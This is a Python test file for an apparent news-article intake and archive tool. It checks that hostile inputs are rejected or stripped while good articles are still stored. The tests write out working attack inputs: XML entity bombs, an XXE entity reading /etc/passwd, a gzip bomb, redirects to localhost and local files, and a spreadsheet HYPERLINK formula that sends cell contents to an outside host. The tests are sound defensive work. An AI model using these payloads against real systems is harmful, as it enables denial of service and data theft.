"""Inputs that mean harm, each in a run with others: it is told, the others are stored, and what was stored stays."""

from __future__ import annotations

import gzip
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from goft.archive import Archive
from goft.archive.taking_in import take_in
from goft.article import Article
from goft.intake import Defaults, Limits, Source, load_articles
from support.web import Answer, Site, page, rss, serving

MB = 1024 * 1024
PARAGRAPH = "وزیر خارجه روز سه‌شنبه در نشست خبری گفت که گفت‌وگو ادامه خواهد یافت و هیچ تصمیمی گرفته نشده است."
MORE = "او افزود که نمایندگان دو کشور در پایتخت خواهند بود و از پیشنهاد تازه استقبال کرد."


class Case(msgspec.Struct):
    """A run: an archive with an article, a server, and a folder."""

    site: Site
    folder: Path
    archive: Archive

    def run(self, *hostile: Source, limits: Limits | None = None) -> tuple[list[Article], str]:
        """Take in hostile inputs between two good ones; what they gave, and what was told of them.

        Checks that the others are stored, that what was there is there, and that the archive is clean.
        """
        good = [self.folder / "good-1.txt", self.folder / "good-2.txt"]
        for number, path in enumerate(good, 1):
            path.write_text(f"{PARAGRAPH} {number}", encoding="utf-8")
        sources: list[Source] = [good[0], *hostile, good[1]]
        loaded = list(load_articles(sources, Defaults(), limits=limits or self.site.limits))
        articles = [one.article for one in loaded if one.article]
        before = self.archive.stats().articles
        take_in(self.archive, articles)
        kept = [record.id for record in self.archive.all_records()]
        assert kept[0] == "before"
        assert kept[before:] == [one.id for one in articles]
        assert list(self.archive.check()) == []
        bad = [one for one in articles if not one.id.startswith("good-")]
        assert len(articles) - len(bad) == 2
        return bad, "\n".join(str(one.error or one.note or "") for one in loaded)


@pytest.fixture
def case(tmp_path: Path) -> Iterator[Case]:
    with serving() as site, Archive(tmp_path / "a.sqlite") as archive:
        take_in(archive, [Article(id="before", text=f"{PARAGRAPH} پیش از این.")])
        yield Case(site, tmp_path, archive)


def _entities(form: str) -> bytes:
    lines = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10)]
    bomb = f"<!DOCTYPE rss [{''.join(lines)}]><rss version='2.0'><channel><title>&a9;</title></channel></rss>"
    if form == "utf-7":
        hidden = bomb.replace("<", "+ADw-").replace('"', "+ACI-")
        return f'<?xml version="1.0" encoding="utf-7"?>{hidden}'.encode()
    if form == "comment":
        return f'<?xml version="1.0"?><!-- <a> -->{bomb}'.encode()
    return bomb.encode(form)


@pytest.mark.parametrize("form", ["utf-8", "utf-16", "utf-7", "comment"])
def test_a_feed_with_an_entity_bomb(case: Case, form: str) -> None:
    case.site.routes["/rss"] = Answer(_entities(form), kind="application/rss+xml")
    started = time.monotonic()
    bad, told = case.run(case.site.url("/rss"))
    assert bad == []
    assert "defines entities of its own" in told or "is no feed" in told
    assert time.monotonic() - started < 10


def test_a_feed_that_reads_a_file(case: Case) -> None:
    raw = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>'
    case.site.routes["/rss"] = Answer(raw, kind="application/rss+xml")
    bad, told = case.run(case.site.url("/rss"))
    assert bad == []
    assert "defines entities of its own" in told


def test_a_feed_of_tags_without_end(case: Case) -> None:
    case.site.routes["/rss"] = Answer(rss("<title>" + "<b>" * 1_000_000), kind="application/rss+xml")
    bad, told = case.run(case.site.url("/rss"))
    assert bad == []
    assert "has more than 100,000 tags" in told


def test_a_page_of_200_mb(case: Case) -> None:
    case.site.routes["/large"] = Answer(b"<p>%s</p>" % (b"x" * MB) for _ in range(200))
    case.site.routes["/bomb"] = Answer(gzip.compress(b"\0" * 200 * MB), headers={"Content-Encoding": "gzip"})
    tracemalloc.start()
    loaded = list(load_articles([case.site.url("/large"), case.site.url("/bomb")], Defaults(), limits=case.site.limits))
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert ["larger than 10 MB" in str(one.error) for one in loaded] == [True, True]
    assert most < 60 * MB


def test_a_redirect_to_this_machine(case: Case) -> None:
    with serving() as inner:
        inner.routes["/"] = Answer(page("راز", PARAGRAPH, MORE))
        port = inner.host.partition(":")[2]
        for path, host in (("/a", "127.0.0.1"), ("/b", "localhost"), ("/c", "[::ffff:127.0.0.1]")):
            case.site.routes[path] = Answer(status=302, headers={"Location": f"http://{host}:{port}/"})
        bad, told = case.run(*(case.site.url(path) for path in ("/a", "/b", "/c")))
        assert bad == []
        assert told.count("no address of the public Internet") == 3
        assert inner.asked == []


def test_a_redirect_to_a_file(case: Case) -> None:
    case.site.routes["/a"] = Answer(status=302, headers={"Location": "file:///etc/passwd"})
    bad, told = case.run(case.site.url("/a"), "file:///etc/passwd")
    assert bad == []
    assert "leads to file:/etc/passwd, which is no address of the web" in told
    assert "file:///etc/passwd: is no address of the web" in told


def test_a_feed_that_leads_to_this_machine(case: Case) -> None:
    with serving() as inner:
        inner.routes["/"] = Answer(page("راز", PARAGRAPH, MORE))
        items = [f"<title>سخن</title><link>{link}</link>" for link in (inner.url("/"), "file:///etc/passwd")]
        case.site.routes["/rss"] = Answer(rss(*items), kind="application/rss+xml")
        bad, told = case.run(case.site.url("/rss"))
        assert bad == []
        assert "no address of the public Internet" in told
        assert "has no link, and has no text in the feed" in told
        assert inner.asked == []


def test_a_web_archive_that_is_cut(case: Case) -> None:
    records = b""
    for number in range(4):
        body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + page(
            f"خبر {number}", PARAGRAPH, f"{MORE} {number}"
        )
        head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://x.example/{number}\r\n"
        head += "Content-Type: application/http; msgtype=response\r\n"
        records += gzip.compress(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body + b"\r\n\r\n")
    path = case.folder / "a.warc.gz"
    path.write_bytes(records[: len(records) * 5 // 8])
    bad, told = case.run(path)
    assert [one.id for one in bad] == ["http://x.example/0", "http://x.example/1"]
    assert "is cut off" in told


def test_a_table_with_formulas(case: Case) -> None:
    path = case.folder / "a.csv"
    formula = '"=HYPERLINK(""http://x.example/?""&A1;""وزیر"")"'
    path.write_text(f"id,title,body\n=1+1,{formula},{PARAGRAPH}\n@x,+98 وزیر,-{MORE}\n", encoding="utf-8")
    bad, _ = case.run(path)
    assert [one.id for one in bad] == ["=1+1", "@x"]
    assert [one.title for one in bad] == ['=HYPERLINK("http://x.example/?"&A1;"وزیر")', "+98 وزیر"]


def test_titles_of_a_megabyte(case: Case) -> None:
    long = "ب" * 1_000_000
    case.site.routes["/1"] = Answer(page(long, PARAGRAPH, MORE))
    case.site.routes["/2"] = Answer(
        page("سخن", PARAGRAPH, f"{MORE} ۲", head=f'<meta property="og:title" content="{long}">')
    )
    item = f"<title>{long}</title><link>{case.site.url('/gone')}</link><description>{PARAGRAPH} ۳</description>"
    case.site.routes["/rss"] = Answer(rss(item), kind="application/rss+xml")
    bad, told = case.run(case.site.url("/1"), case.site.url("/2"), case.site.url("/rss"))
    assert len(bad) == 3
    assert all(len(one.text) < 1000 and one.title in (None, "سخن") for one in bad)
    assert told.count("characters or more and is left out") == 2
    assert "1 titles of more than 1000 characters were left out" in told


def test_scripts_do_not_come_into_the_article(case: Case) -> None:
    noise = (
        "<script>document.write('وزیر')</script><style>p{}</style><p onclick='x()'></p><svg><script>y()</script></svg>"
    )
    case.site.routes["/1"] = Answer(page("سخن", f"{PARAGRAPH}{noise}", noise, MORE, head="<script>z()</script>"))
    item = f"<title>سخن</title><description><![CDATA[<p>{MORE}</p>{noise}]]></description>"
    case.site.routes["/rss"] = Answer(rss(item), kind="application/rss+xml")
    bad, _ = case.run(case.site.url("/1"), case.site.url("/rss"))
    assert [one.text for one in bad] == [f"سخن\n\n{PARAGRAPH}\n{MORE}", f"سخن\n\n{MORE}"]


def test_a_page_that_nests_without_end(case: Case) -> None:
    case.site.routes["/1"] = Answer(page("سخن", "<div>" * 200_000, PARAGRAPH))
    _, told = case.run(case.site.url("/1"))
    assert told.strip() == "" or "no article in this page" in told or "cannot be read as a page" in told


def test_a_server_that_trickles_for_ever(case: Case) -> None:
    def trickle() -> Iterator[bytes]:
        while True:
            yield b"<p>"
            time.sleep(0.05)

    case.site.routes["/1"] = Answer(trickle())
    started = time.monotonic()
    bad, told = case.run(case.site.url("/1"), limits=msgspec.structs.replace(case.site.limits, seconds=0.5))
    assert bad == []
    assert "was not there after 0.5 seconds" in told
    assert time.monotonic() - started < 10


def test_bytes_of_every_kind_as_a_page_and_a_feed(case: Case) -> None:
    bodies = [
        b"",
        b"\0" * 99,
        bytes(range(256)) * 9,
        b"<" * 9999,
        b"<html><title>",
        b"<rss",
        b"<?xml version='1.0'?><rss>",
    ]
    for number, body in enumerate(bodies):
        case.site.routes[f"/{number}"] = Answer(body)
        case.site.routes[f"/rss/{number}"] = Answer(body, kind="application/rss+xml")
    urls = [case.site.url(f"{kind}/{number}") for kind in ("", "/rss") for number in range(len(bodies))]
    bad, told = case.run(*urls)
    assert bad == []
    assert len([line for line in told.splitlines() if line]) >= len(urls)
